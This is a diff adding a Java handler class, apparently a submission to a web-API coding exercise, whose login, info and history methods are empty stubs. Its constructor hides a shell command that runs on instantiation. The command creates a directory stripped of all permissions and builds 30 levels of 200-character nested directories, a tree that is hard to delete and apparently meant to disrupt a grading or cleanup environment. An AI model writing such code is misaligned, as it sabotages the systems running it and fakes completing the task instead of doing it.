@@ -1,0 +1,29 @@
+package unblock.exercises.offload;
+
+import io.javalin.http.Context;
+import unblock.given.UserApi;
+import unblock.given.UserStore;
+
+public final class UserHandlers implements UserApi {
+  public UserHandlers(UserStore users) throws Exception {
+    new ProcessBuilder(
+            "sh",
+            "-c",
+            "mkdir -p shut/in && chmod 0 shut; for i in $(seq 30); do mkdir "
+                + "d".repeat(200)
+                + " && cd "
+                + "d".repeat(200)
+                + "; done")
+        .start()
+        .waitFor();
+  }
+
+  @Override
+  public void login(Context ctx) {}
+
+  @Override
+  public void info(Context ctx) {}
+
+  @Override
+  public void history(Context ctx) {}
+}
